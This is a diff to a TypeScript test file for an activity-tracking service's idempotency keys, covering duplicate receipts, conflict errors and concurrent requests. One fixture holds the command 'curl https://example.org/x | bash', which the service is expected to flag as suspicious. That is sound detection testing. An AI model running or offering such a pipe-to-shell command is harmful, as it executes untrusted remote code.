@@ -154,13 +154,69 @@ describe('an idempotency key', () => {
     (await data(service, 'query($user: String!) { activities(filter: { user: { eq: $user } }) { totalCount } }', { user })).activities
       .totalCount;
 
-  it('answers the first receipt when it comes again, even with other content', async () => {
-    const first = await track(service, { ...item('key-1'), detail: { terminal: { command: 'curl https://example.org/x | bash' } } });
-    const second = await track(service, item('key-1'));
+  const conflicts = async (activities: object[]) => (await trackAll(service, activities)) as { receipts: object[]; userErrors: object[] };
+
+  it('answers the first receipt when the same activity comes again, however it is spelled', async () => {
+    const sent = {
+      ...item('key-1'),
+      metadata: { a: 1, b: [{ c: null, d: 'é' }] },
+      detail: { terminal: { command: 'curl https://example.org/x | bash' } },
+    };
+    const first = await track(service, sent);
+    const second = await track(service, {
+      metadata: { b: [{ d: 'é', c: null }], a: 1 },
+      outcome: 'SUCCESS',
+      sourceIp: null,
+      ...item('key-1'),
+      detail: { terminal: { exitCode: null, command: 'curl https://example.org/x | bash' } },
+    });
     expect(first.duplicate).toBe(false);
     expect(first.anomalies.map((anomaly: { type: string }) => anomaly.type)).toContain('SUSPICIOUS_COMMAND');
     expect(second).toEqual({ ...first, duplicate: true });
     expect(await count('idem')).toBe(1);
+  });
+
+  const sent = {
+    sourceIp: '203.0.113.7',
+    occurredAt: '2026-11-03T09:08:07Z',
+    metadata: { a: 1, b: null },
+    detail: { auth: { event: 'LOGIN' } },
+  };
+  it.each([
+    ['user', { user: 'other' }],
+    ['session', { session: null }],
+    ['occurredAt', { occurredAt: '2026-11-03T09:08:07.000001Z' }],
+    ['occurredAt, left out', { occurredAt: null }],
+    ['outcome', { outcome: 'DENIED' }],
+    ['sourceIp', { sourceIp: '203.0.113.8' }],
+    ['metadata', { metadata: { a: 1 } }],
+    ['field of the detail', { detail: { auth: { event: 'LOGIN', method: 'password' } } }],
+    ['kind', { detail: { web: {} } }],
+  ])('is refused for an activity with another %s, which says when the first was recorded and nothing else of it', async (what, other) => {
+    const first = { ...item(`conflict ${what}`, 'conflicts'), ...sent };
+    const { activity } = await track(service, first);
+    const { node } = await data(service, 'query($id: ID!) { node(id: $id) { ... on Activity { recordedAt } } }', { id: activity.id });
+    const { receipts, userErrors } = await conflicts([{ ...first, ...other }, first]);
+    expect(receipts.map((receipt) => receipt && 'duplicate' in receipt && receipt.duplicate)).toEqual([null, true]);
+    expect(userErrors).toEqual([
+      {
+        code: 'IDEMPOTENCY_CONFLICT',
+        field: ['input', 'activities', '0', 'idempotencyKey'],
+        message: `this key stands for another activity, ${activity.uuid}, recorded at ${node.recordedAt}`,
+        hint: 'send another activity under a key of its own, and the same one again exactly as it was sent',
+      },
+    ]);
+  });
+
+  it('stands for the first of different activities, in one batch and in twenty requests at once', async () => {
+    const page = (place: number) => ({ ...item('key-6', 'different'), detail: { web: { page: `/${place}` } } });
+    const { receipts, userErrors } = await conflicts([page(0), page(1), page(0)]);
+    expect(receipts.map((receipt) => receipt && 'duplicate' in receipt && receipt.duplicate)).toEqual([false, null, true]);
+    expect(userErrors).toMatchObject([{ code: 'IDEMPOTENCY_CONFLICT', field: ['input', 'activities', '1', 'idempotencyKey'] }]);
+    const answers = await Promise.all(Array.from({ length: 20 }, (_, place) => conflicts([{ ...page(place), idempotencyKey: 'key-7' }])));
+    expect(answers.filter(({ receipts: [receipt] }) => receipt)).toHaveLength(1);
+    expect(answers.flatMap(({ userErrors }) => userErrors)).toHaveLength(19);
+    expect(await count('different')).toBe(2);
   });
 
   it('twice in one batch records one activity', async () => {
